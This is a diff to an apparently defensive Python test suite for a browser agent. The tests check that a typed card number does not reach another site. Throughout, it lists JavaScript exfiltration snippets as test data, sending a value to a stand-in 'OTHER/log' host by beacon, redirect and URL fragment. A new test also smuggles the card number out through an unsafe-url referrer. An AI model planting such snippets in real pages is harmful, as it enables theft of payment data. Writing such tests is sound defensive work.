@@ -129,8 +129,6 @@ WAYS = {
     "by a beacon": "navigator.sendBeacon('OTHER/log', V)",
     "by a page": "location = 'OTHER/log?d=' + V",
     "in a fragment": "location = 'OTHER/log#' + V",
-    "in the referrer": """{ history.replaceState(0, '', '?d=' + V);
-        fetch('OTHER/log', {referrerPolicy: 'unsafe-url'}) }""",
 }
 
 
@@ -138,7 +136,7 @@ WAYS = {
     "way",
     [
         name
-        if name in ("in base64", "by a beacon", "in a fragment", "in the referrer")
+        if name in ("in base64", "by a beacon", "in a fragment")
         else pytest.param(name, marks=pytest.mark.slow)
         for name in WAYS
     ],
@@ -153,6 +151,20 @@ async def test_a_card_number_does_not_go_to_another_site(shop: Shop, way: str) -
     assert shop.arrived == []
     (asked,) = shop.person.asked
     assert "carries what was typed to another site" in asked.risk.reasons[0]
+
+
+async def test_a_referrer_is_cut_to_its_origin(shop: Shop) -> None:
+    script = "history.replaceState(0, '', '?d=' + this.value)"
+    send = "fetch('OTHER/log', {referrerPolicy: 'unsafe-url'})"
+    await shop.show(
+        f'<input aria-label=Card autocomplete=cc-number oninput="{_quoted(script)}">'
+        f'<button onclick="{_quoted(send)}">Show more</button>',
+        effect="read",
+    )
+    await shop.do("enter_text", mmid=await shop.only("textbox"), text=CARD)
+    await shop.do("click", mmid=await shop.only())
+    await _come(lambda: shop.arrived)
+    assert [(each.path, each.referrer) for each in shop.arrived] == [("/log", f"{shop.here.base}/")]
 
 
 async def test_nor_does_it_key_by_key_or_later(shop: Shop) -> None:
